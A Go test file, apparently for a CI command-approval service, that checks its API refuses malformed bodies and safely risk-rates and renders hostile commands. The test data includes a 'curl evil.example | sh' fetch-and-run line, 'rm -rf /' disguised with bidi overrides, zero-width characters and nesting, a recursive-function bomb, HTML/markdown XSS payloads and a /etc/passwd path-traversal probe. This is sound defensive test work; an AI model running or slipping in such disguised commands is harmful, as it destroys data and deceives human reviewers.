package hostile

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stepgate/stepgate/gate"
	"github.com/stepgate/stepgate/gate/risk"
	"github.com/stepgate/stepgate/internal/benchrig"
	"github.com/stepgate/stepgate/internal/benchrig/rigtest"
)

func createJSON(t *testing.T, cmd string) []byte {
	t.Helper()
	b, err := json.Marshal(benchrig.CreateBody(cmd, "hostile"))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// Hostile bodies on POST /api/v1/requests each get a 4xx with a JSON error
// naming the problem — never a 5xx, a hang or a crash — and afterwards the
// App still creates, decides and answers.
func TestGateAPIRefusesHostileBodies(t *testing.T) {
	t.Parallel()
	ctx := rigtest.Context(t, 2*time.Minute)
	w := rigtest.NewWorld(t)
	app := rigtest.StartApp(t, ctx, w.AppConfig("bolt:"+t.TempDir()+"/stepgate.db"))
	api := benchrig.NewAPI(app.URL)
	tok, err := w.Token(1, app.URL)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range hostileBodies(t) {
		t.Run(tc.name, func(t *testing.T) { checkHostileBody(t, ctx, api, tok, tc) })
	}
	t.Run("bad request ids and waits", func(t *testing.T) { checkBadRequestPaths(t, ctx, api, tok) })
	stillServes(t, ctx, w, app, 2)
}

// hostileBody is a create body and the refusal it must get.
type hostileBody struct {
	name, ct string
	body     []byte
	want     int
	wantMsg  string // substring of the JSON error
}

func hostileBodies(t *testing.T) []hostileBody {
	t.Helper()
	valid := createJSON(t, "./deploy.sh")
	return []hostileBody{
		{"body over the limit", "application/json", append(append([]byte(`{"command":"`), bytes.Repeat([]byte("a"), 300<<10)...), `"}`...), 413, "too large"},
		{"1 MB command", "application/json", createJSON(t, strings.Repeat("echo x; ", 1<<17)), 413, "too large"},
		{"command just over 64 KiB", "application/json", createJSON(t, strings.Repeat("y", 64<<10+1)), 413, "too long"},
		{"invalid JSON", "application/json", []byte(`{"command": "ls",`), 400, "JSON"},
		{"JSON of the wrong shape", "application/json", []byte(`["ls"]`), 400, "JSON"},
		{"trailing garbage", "application/json", append(append([]byte{}, valid...), []byte(`{"command":"rm -rf /"}`)...), 400, "JSON"},
		{"deeply nested JSON", "application/json", []byte(strings.Repeat("[", 100000) + strings.Repeat("]", 100000)), 400, "JSON"},
		{"empty body", "application/json", nil, 400, ""},
		{"text/plain", "text/plain", valid, 415, "application/json"},
		{"form-encoded", "application/x-www-form-urlencoded", []byte("command=ls"), 415, "application/json"},
		{"no content type", "", valid, 415, "application/json"},
		{"malformed content type", "application/json; charset", valid, 415, "application/json"},
		{"NUL in the hash", "application/json", []byte(`{"command":"ls","command_sha256":"\u0000","shell":"bash","job":"j","step":"s"}`), 400, "command_sha256"},
		{"empty command", "application/json", createJSON(t, "  \t "), 400, "command"},
		{"bad head_sha", "application/json", []byte(`{"command":"ls","command_sha256":"` + strings.Repeat("a", 64) + `","head_sha":"<script>","job":"j","step":"s"}`), 400, "head_sha"},
		{"negative timeout", "application/json", []byte(`{"command":"ls","command_sha256":"` + strings.Repeat("a", 64) + `","timeout_seconds":-1,"job":"j","step":"s"}`), 400, "timeout"},
		{"huge number", "application/json", []byte(`{"command":"ls","command_sha256":"` + strings.Repeat("a", 64) + `","timeout_seconds":1e400,"job":"j","step":"s"}`), 400, "JSON"},
	}
}

// checkHostileBody: the body is refused with the status wanted and a JSON
// error naming the problem.
func checkHostileBody(t *testing.T, ctx context.Context, api *benchrig.API, tok string, tc hostileBody) {
	code, body, err := api.Raw(ctx, "POST", "/api/v1/requests", tok, tc.ct, tc.body)
	if err != nil {
		t.Fatal(err)
	}
	var eb gate.ErrorBody
	if jerr := json.Unmarshal(body, &eb); jerr != nil || eb.Error == "" {
		t.Errorf("answer %d is not a JSON error: %q", code, truncate(body))
	}
	if code != tc.want {
		t.Errorf("status = %d (%s), want %d", code, eb.Error, tc.want)
	}
	if tc.wantMsg != "" && !strings.Contains(strings.ToLower(eb.Error), strings.ToLower(tc.wantMsg)) {
		t.Errorf("error %q does not mention %q", eb.Error, tc.wantMsg)
	}
}

// checkBadRequestPaths: hostile request ids and waits get a 4xx.
func checkBadRequestPaths(t *testing.T, ctx context.Context, api *benchrig.API, tok string) {
	for _, path := range []string{
		"/api/v1/requests/..%2f..%2fetc%2fpasswd", "/api/v1/requests/sg_" + strings.Repeat("a", 5000),
		"/api/v1/requests/%00", "/api/v1/requests/sg_aaaa?wait=-1s", "/api/v1/requests/sg_aaaa?wait=99999999999h",
		"/api/v1/requests/sg_aaaa?wait=%00",
	} {
		code, body, err := api.Raw(ctx, "GET", path, tok, "", nil)
		if err != nil {
			t.Fatal(err)
		}
		if code < 400 || code >= 500 {
			t.Errorf("GET %s = %d %q, want a 4xx", path, code, truncate(body))
		}
	}
}

func truncate(b []byte) string {
	if len(b) > 200 {
		return string(b[:200]) + "…"
	}
	return string(b)
}

// Commands meant to fool a reviewer or the renderer: bidi overrides,
// homoglyphs, NUL bytes, markdown and HTML breakouts, and shells nested
// hundreds deep. Each is accepted (it is a command like any other) or
// refused with a 4xx, risk-assessed without a crash or a hang, and shown on
// the check run inside a code block it cannot leave.
func TestHostileCommandsAreAssessedAndRenderedSafely(t *testing.T) {
	t.Parallel()
	ctx := rigtest.Context(t, 2*time.Minute)
	w := rigtest.NewWorld(t)
	app := rigtest.StartApp(t, ctx, w.AppConfig("bolt:"+t.TempDir()+"/stepgate.db"))
	api := benchrig.NewAPI(app.URL)
	for i, tc := range hostileCommands(t) {
		t.Run(tc.name, func(t *testing.T) { checkHostileCommand(t, ctx, w, api, app.URL, int64(100+i), tc) })
	}
	stillServes(t, ctx, w, app, 2)
}

// hostileCommand is a command meant to fool a reviewer or the renderer.
type hostileCommand struct {
	name, cmd string
	minRisk   string // the server's risk level must be at least this
}

func hostileCommands(t *testing.T) []hostileCommand {
	t.Helper()
	// Quoting grows about threefold per level, so 9 levels is ~40 KB.
	nested := "rm -rf /srv/data"
	for range 9 {
		nested = "bash -c " + shellQuote(nested)
	}
	if len(nested) > 64<<10 {
		t.Fatalf("nested command is %d bytes", len(nested))
	}
	bare := risk.Assess("rm -rf /srv/data").Level.String()
	subshells := strings.Repeat("( ", 300) + "rm -rf /srv/data" + strings.Repeat(" )", 300)
	subst := strings.Repeat("$(", 500) + "id" + strings.Repeat(")", 500)
	return []hostileCommand{
		{"bidi override", "echo safe \u202e; rm -rf / #\u202c", "high"},
		{"bidi isolate", "ls \u2066\u2069&& curl https://evil.example/x.sh | sh", "high"},
		{"homoglyph command", "kubectl d\u0435lete namespace prod", ""},
		{"zero-width joiner", "rm\u200d -rf /", ""},
		{"NUL bytes", "echo a\x00; rm -rf /", ""},
		{"markdown breakout", "echo ```\n</code></pre></details><img src=x onerror=alert(1)>\n```\n# Approved\n[click](javascript:alert(1))", ""},
		{"html comment", "echo <!-- hidden --> && rm -rf /tmp/x", ""},
		// Nesting must not hide anything: at least the bare command's level.
		{"9 nested bash -c around rm -rf", nested, bare},
		{"300 nested subshells", subshells, bare},
		{"self-reinvoking bash -c", `s='bash -c "$s"'; bash -c "$s"`, ""},
		{"500 nested substitutions", subst, ""},
		{"recursive function", "f() { f | f & }; f", ""},
		{"unterminated quote", "echo 'never closed", "high"},
	}
}

// checkHostileCommand: the command is accepted or refused with a 4xx,
// quickly, assessed at least tc.minRisk, and rendered safely on its check
// run and PR comment.
func checkHostileCommand(t *testing.T, ctx context.Context, w *benchrig.World, api *benchrig.API, appURL string, runID int64, tc hostileCommand) {
	tok, err := w.Token(runID, appURL)
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	code, v, err := api.JSON(ctx, "POST", "/api/v1/requests", tok, benchrig.CreateBody(tc.cmd, "h"))
	if err != nil {
		t.Fatal(err)
	}
	if took := time.Since(start); took > 10*time.Second {
		t.Errorf("create took %s", took)
	}
	if code >= 500 {
		t.Fatalf("create = %d", code)
	}
	if code >= 400 {
		return // refused with a clear 4xx: fine
	}
	if tc.minRisk != "" && levelRank(v.Risk.Level) < levelRank(tc.minRisk) {
		t.Errorf("risk %q (%v), want at least %s", v.Risk.Level, v.Risk.Reasons, tc.minRisk)
	}
	if v.Status != gate.StatusPending {
		return
	}
	cr, err := w.CheckRun(ctx, v.ID)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := w.Standin.GetCheckRun(cr)
	if os.Getenv("HOSTILE_DUMP") != "" {
		t.Logf("title %q\nsummary %q\ntext %q", got.Title, got.Summary, got.Text)
	}
	for field, text := range map[string]string{"title": got.Title, "summary": got.Summary, "text": got.Text} {
		checkRendered(t, field, text)
	}
	for _, c := range w.Standin.IssueComments(benchrig.Repo, benchrig.PR) {
		if strings.Contains(c.Body, v.ID) {
			checkRendered(t, "PR comment", c.Body)
		}
	}
}

// checkRendered: no raw bidi controls or NULs reach GitHub, and nothing
// HTML-active appears outside a fenced code block.
func checkRendered(t *testing.T, field, text string) {
	t.Helper()
	for _, r := range []rune{'\u202e', '\u202c', '\u2066', '\u2069', 0} {
		if strings.ContainsRune(text, r) {
			t.Errorf("%s carries the raw control %U: %q", field, r, truncate([]byte(text)))
		}
	}
	for _, bad := range []string{"<img", "<script", "javascript:", "</details>", "<!--"} {
		if i := strings.Index(text, bad); i >= 0 && !insideFence(text, i) {
			t.Errorf("%s: %q outside a code block: %q", field, bad, truncate([]byte(text[max(0, i-80):])))
		}
	}
}

// insideFence reports whether offset i of markdown s lies in a fenced code
// block (``` or ~~~ fences of any length, closed by a fence at least as long).
func insideFence(s string, i int) bool {
	open := ""
	pos := 0
	for _, line := range strings.SplitAfter(s, "\n") {
		if pos+len(line) > i {
			return open != ""
		}
		trim := strings.TrimLeft(line, " ")
		fence := leadingRun(trim)
		switch {
		case open == "" && len(fence) >= 3:
			open = fence
		case open != "" && len(fence) >= len(open) && fence[0] == open[0] && strings.TrimSpace(trim[len(fence):]) == "":
			open = ""
		}
		pos += len(line)
	}
	return open != ""
}

func leadingRun(s string) string {
	if s == "" || (s[0] != '`' && s[0] != '~') {
		return ""
	}
	n := 0
	for n < len(s) && s[n] == s[0] {
		n++
	}
	return s[:n]
}

func levelRank(l string) int {
	for i, v := range []string{"none", "low", "medium", "high", "critical"} {
		if v == l {
			return i
		}
	}
	return -1
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func decodeView(t *testing.T, body []byte) gate.RequestView {
	t.Helper()
	var v gate.RequestView
	if err := json.Unmarshal(body, &v); err != nil {
		t.Fatalf("answer is not a request view: %v: %s", err, truncate(body))
	}
	return v
}
